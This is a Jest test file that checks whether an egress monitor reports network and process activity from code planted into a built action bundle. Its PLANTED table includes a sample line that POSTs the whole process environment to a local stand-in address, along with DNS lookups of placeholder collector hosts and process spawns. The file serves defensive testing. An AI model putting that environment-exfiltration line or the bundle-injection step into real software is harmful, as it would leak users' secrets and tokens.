import { cpSync, globSync, readFileSync, writeFileSync } from 'node:fs';
import { join, resolve, sep } from 'node:path';

import { expect, test } from '@jest/globals';

import { makeDevices } from '../simulator/devices.ts';
import { useFolder } from './support/folder.ts';
import { useGithub } from './support/github-fixture.ts';
import { ARTIFACTS_TIME_SCALE, openSandbox } from './support/sandbox.ts';

const ROOT = resolve(import.meta.dirname, '..');
/** What a package could do with the environment, and how it is reported. */
const PLANTED = {
  'connect 127.0.0.1:65535': `fetch('http://127.0.0.1:65535/', { method: 'POST', body: JSON.stringify(process.env) })`,
  'resolve collector.example': `use('dns').promises.lookup('collector.example')`,
  'resolve x.example': `use('dns').promises.resolveTxt('x.example')`,
  'connect an address by UDP': `use('dgram').createSocket('udp4').unref()`,
  'connect /none': `use('net').connect('/none').on('error', () => 0)`,
  'start a process': `use('child_process').execFile('true')`,
  'start true': `use('child_process').spawnSync('true')`,
};

const folder = useFolder();
const github = useGithub();
const setUp = () => openSandbox({ timeScale: ARTIFACTS_TIME_SCALE, plan: () => makeDevices({ total: 1, seconds: 0 }) });

test.each([
  ['main', 'dist/index.js'],
  ['worker', 'dist/artifact-worker/index.js'],
])('what a package in the bundle of the %s thread does with the environment is noticed', async (thread, file) => {
  for (const path of ['dist', 'index.mjs']) cpSync(join(ROOT, path), join(folder(), path), { recursive: true });
  const lines = Object.values(PLANTED).map((line) => `Promise.resolve(${line}).catch(() => 0);\n`);
  const use = `const use = (name) => process.getBuiltinModule('node:' + name);\n`;
  const path = join(folder(), file);
  writeFileSync(path, `{\n${use}${lines.join('')}}\n${readFileSync(path, 'utf8')}`);
  const { run } = await setUp();
  const error: unknown = await run({ root: folder(), env: github.env }).catch((reason: unknown) => reason);
  const expected = Object.keys(PLANTED).map((words) => `${words} (${thread} thread)`);
  expect(String(error).split('\n').slice(1).sort()).toEqual(expected.sort());
});

test('a run connects to the service and to GitHub, and resolves no name', async () => {
  const { simulator, run } = await setUp();
  const inputs = { 'github-token': github.token };
  const branch = { GITHUB_REF_TYPE: 'branch', GITHUB_REF_NAME: 'main' };
  const { exitCode, contacts } = await run({ inputs, env: { ...github.env, ...branch } });
  const [service, api] = [simulator.url, github.url].map((url) => ({ kind: 'connect', what: new URL(url).host }));
  expect(exitCode).toBe(0);
  expect(contacts[0]).toEqual({ ...service, thread: 'main' });
  expect(contacts).toContainEqual({ ...api, thread: 'main' });
  expect(contacts).toContainEqual({ ...api, thread: 'worker' });
});

test('whatever starts the bundle watches it', () => {
  const files = globSync('{__tests__,scripts,benchmarks}/**/*.{ts,js,mjs,cjs}', { cwd: ROOT });
  const starters = files.filter((path) => {
    const text = readFileSync(join(ROOT, path), 'utf8');
    const isStart = /node:(?:child_process|worker_threads)/.test(text) && /\bindex\.m?js\b|'act'/.test(text);
    return isStart && !text.includes('watchEgress(');
  });
  const others = ['archive.test.ts', 'release/repository.ts', 'workflows/support/require-act.js'];
  const onlyNamed = [
    ...others.map((name) => `__tests__/${name}`),
    'scripts/build.ts',
    'scripts/example/start-service/start.mjs',
  ];
  expect(starters.map((path) => path.replaceAll(sep, '/')).sort()).toEqual(onlyNamed);
});
